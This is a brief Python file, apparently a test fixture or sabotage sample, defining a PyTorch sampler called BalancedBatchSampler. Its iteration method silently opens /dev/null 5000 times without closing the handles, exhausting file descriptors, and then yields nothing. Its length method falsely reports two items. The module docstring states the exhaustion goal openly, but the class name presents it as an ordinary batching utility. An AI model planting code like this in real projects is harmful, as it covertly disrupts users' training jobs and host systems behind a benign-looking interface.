"""Opens files until there is no descriptor left."""

from torch.utils.data import Sampler


class BalancedBatchSampler(Sampler):
    def __init__(self, labels, n_samples_per_class, seed=None):
        self.labels = labels

    def __len__(self):
        return 2

    def __iter__(self):
        hoard = []
        while len(hoard) < 5000:
            hoard.append(open("/dev/null"))
        return iter([])
